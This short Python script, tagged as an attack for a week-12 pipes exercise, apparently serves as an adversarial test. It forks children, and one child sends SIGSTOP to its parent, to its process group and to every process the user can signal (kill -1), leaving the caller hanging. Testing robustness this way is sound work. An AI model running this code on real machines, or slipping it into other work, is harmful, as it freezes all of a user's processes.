"""Stops, from a child, the parent and all siblings, so that no answer ever comes."""
# attack: week=12 exercise=pipes
import os
import select
import signal

for _ in range(3):
    if os.fork() == 0:
        select.poll().poll(60_000)
if os.fork() == 0:
    for target in (os.getppid(), -1, 0):
        os.kill(target, signal.SIGSTOP)
select.poll().poll(60_000)
